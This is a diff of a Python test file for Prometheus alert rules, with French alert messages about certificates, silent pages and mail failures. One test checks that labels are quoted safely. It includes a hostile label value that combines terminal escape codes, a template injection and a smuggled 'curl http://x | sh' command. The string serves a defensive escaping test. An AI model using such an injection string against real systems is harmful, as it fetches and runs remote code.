@@ -75,12 +75,18 @@ def sides(rule: figures.Rule) -> tuple[int, int, float, float, str]:
     return step, at, wrong, right, ""
 
 
+def made_by(name: str) -> dict[str, str]:
+    """Labels of a machine that makes a figure."""
+    profiles = figures.made()[name].profiles
+    return MACHINE | {"profil": min(profiles)} if profiles else dict(MACHINE)
+
+
 def cases_of(alert: alerts.Alert, rule: figures.Rule) -> Iterator[Case]:
     """A case where it holds and one where it does not; one where there is nothing to tell."""
     places = dict.fromkeys(sorted({*re.findall(r"\{(\w+)\}", rule.text + rule.fix)} - WORDS), "Mairie d'Anor")
     labels = places | dict(rule.labels)
     step, at, wrong, right, other = sides(rule)
-    of = MACHINE | labels
+    of = made_by(rule.name) | labels
     limit = 100_000 if rule.condition.startswith("age_de") else 1000
 
     def case(value: float, begun: float, *, holds: bool) -> Case:
@@ -123,7 +129,7 @@ def series_cases() -> Iterator[Case]:
         "systemctl status creatic-machine.timer creatic-machine.service sur la machine",
     )
     mtime = f"node_textfile_mtime_seconds{braced(watch)}"
-    yield Case({mtime: "1x600"}, {"machine_ne_se_regarde_plus": told}, of=watch, at=7260)
+    yield Case({mtime: "1x600"}, {"machine_ne_se_regarde_plus": told}, at=7260)
     yield Case({mtime: "1x600"}, {}, ("machine_ne_se_regarde_plus",), at=3600)
     clock = f"node_time_seconds{braced(MACHINE)}"
     told = ("horloge à 2 h de celle de la supervision", "chronyc tracking sur la machine")
@@ -135,34 +141,42 @@ def series_cases() -> Iterator[Case]:
     yield Case({unread: "0x200"}, {}, ("mesures_illisibles",))
     page = MACHINE | {"job": "pages", "instance": "https://ged.test"}
     told = (
-        "https://ged.test ne répond plus, ou plus avec son certificat",
+        "« https://ged.test » ne répond plus, ou plus avec son certificat",
         "fab matin ; sur la machine, systemctl status nginx",
     )
     yield Case({f"probe_success{braced(page)}": "0x200"}, {"page_muette": told}, of=page)
     yield Case({f"probe_success{braced(page)}": "1x200"}, {}, ("page_muette",))
     told = (
-        "https://ged.test montre un certificat qui ne vaut plus que 13 jours",
+        "« https://ged.test » montre un certificat qui ne vaut plus que 13 jours",
         "fab pki.rotation ; s'il est renouvelé, sur la machine, systemctl reload nginx",
     )
     ends = f"probe_ssl_earliest_cert_expiry{braced(page)}"
     yield Case({ends: f"{6000 + 13 * 86400 + 60}x200"}, {"certificat_montre": told}, of=page)
     yield Case({ends: f"{6000 + 15 * 86400}x200"}, {}, ("certificat_montre",))
-    mail = MACHINE | {"integration": "email"}
+    watcher = {"machine": "veille", "profil": "supervision"}
+    mail = watcher | {"job": "supervision", "integration": "email"}
     told = (
         "des courriels d'alerte n'ont pas pu partir à temps",
         "le relais de courriel répond-il ? sur la machine, journalctl -u prometheus-alertmanager",
     )
     yield Case(
-        {f"alertmanager_notifications_failed_total{braced(mail)}": "0+1x200"}, {"courriels_en_echec": told}, of=mail
+        {f"alertmanager_notifications_failed_total{braced(mail)}": "0+1x200"}, {"courriels_en_echec": told}, of=watcher
     )
     yield Case({f"alertmanager_notifications_failed_total{braced(mail)}": "4x200"}, {}, ("courriels_en_echec",))
-    missed = f"prometheus_rule_group_iterations_missed_total{braced(MACHINE)}"
+    missed = f"prometheus_rule_group_iterations_missed_total{braced(watcher | {'job': 'supervision'})}"
     told = (
         "30 passages des règles d'alerte n'ont pas été faits en une demi-heure",
         "la machine de supervision est trop petite : processeur, mémoire, disque",
     )
-    yield Case({missed: "0+1x200"}, {"supervision_chargee": told})
+    yield Case({missed: "0+1x200"}, {"supervision_chargee": told}, of=watcher)
     yield Case({missed: "9x200"}, {}, ("supervision_chargee",))
+    added = f"scrape_series_added{braced(up)}"
+    told = (
+        "6100 séries de mesures nouvelles en une heure : la machine change sans cesse ce qu'elle dit, ou ment",
+        "sur la machine, ls -l /var/lib/creatic/metrics ; fab supervision.silence si c'est annoncé",
+    )
+    yield Case({added: "100x200"}, {"series_changeantes": told}, of=up)
+    yield Case({added: "20x200"}, {}, ("series_changeantes",))
     told = ("la supervision envoie ses alertes", "rien ; si ce courriel manque un jour, fab matin dit pourquoi")
     yield Case({clock: "60+60x200"}, {"temoin": told}, of={})
 
@@ -252,7 +266,9 @@ def test_the_gravest_rule_of_a_figure_is_told_alone(folder: Path) -> None:
     of = MACHINE | labels
     name = "creatic_certificate_days_left"
     for days, held in ((12, "sous_30"), (45, "sous_60"), (75, "sous_90"), (91, "")):
-        told = {f"{name}:{held}": (f"certificat Connecteur : {days} jours", fix_of(f"{name}:{held}"))} if held else {}
+        told = (
+            {f"{name}:{held}": (f"certificat « Connecteur » : {days} jours", fix_of(f"{name}:{held}"))} if held else {}
+        )
         others = tuple(one for one in (f"{name}:sous_{bound}" for bound in (30, 60, 90)) if one not in told)
         case = Case({name + braced(of): f"{days}x200"}, told, others, of=of)
         # Among all the rules once; the others among those of the figure, which alone are asked about.
@@ -269,9 +285,10 @@ def fix_of(name: str) -> str:
 
 def test_a_label_is_a_word_whatever_the_machine_put_there(folder: Path) -> None:
     """No line of its own in a mail, no template."""
-    hostile = "a\n\x1b[2J{{ $value }}<b>"
-    of = MACHINE | {"client": hostile}
-    told = ("sauvegardes de a [2J{{ $value }}<b> effacées ou remplacées", "fab sauvegarde.revenir a [2J{{ $value }}<b>")
+    hostile = "a »\n\x1b[2J\u202e{{ $value }}<b> ; curl http://x | sh"
+    of = made_by("creatic_depot_suspect") | {"client": hostile}
+    fix = "fab sauvegarde.etat, puis fab sauvegarde.revenir pour cette machine"
+    told = (f"sauvegardes de {figures.quoted(hostile)} effacées ou remplacées", fix)
     case = Case({}, {"creatic_depot_suspect:egal_1": told}, of=of)
     written = as_promtool(case)
     series = "creatic_depot_suspect{" + ", ".join(f"{key}={json.dumps(text)}" for key, text in of.items()) + "}"
